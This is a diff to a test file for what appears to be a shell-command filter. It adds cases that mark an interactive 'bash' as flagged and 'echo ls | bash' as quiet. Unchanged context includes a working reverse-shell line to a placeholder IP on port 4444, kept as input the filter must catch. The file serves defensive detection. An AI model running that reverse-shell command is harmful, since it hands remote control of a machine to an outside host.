@@ -8,6 +8,7 @@ testFilter(
   defaultProfile,
   {
     fires: [
+      { call: 'bash', codes: ['code-execution.interactive'], why: 'a shell that waits for somebody to type' },
       {
         call: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
         codes: ['code-execution.reverse-shell'],
@@ -52,6 +53,7 @@ testFilter(
       { call: 'if then', codes: ['code-execution.partly-unread'], why: 'a part that is no syntax' },
     ],
     quiet: [
+      { call: 'echo ls | bash', why: 'the shell is given its commands, and they were read' },
       { call: 'npm test', why: 'a test run' },
       { call: 'python3 scripts/build.py', why: 'a script of the workspace' },
       { call: 'curl -s https://example.com/data.json | jq .', why: 'data from a server' },
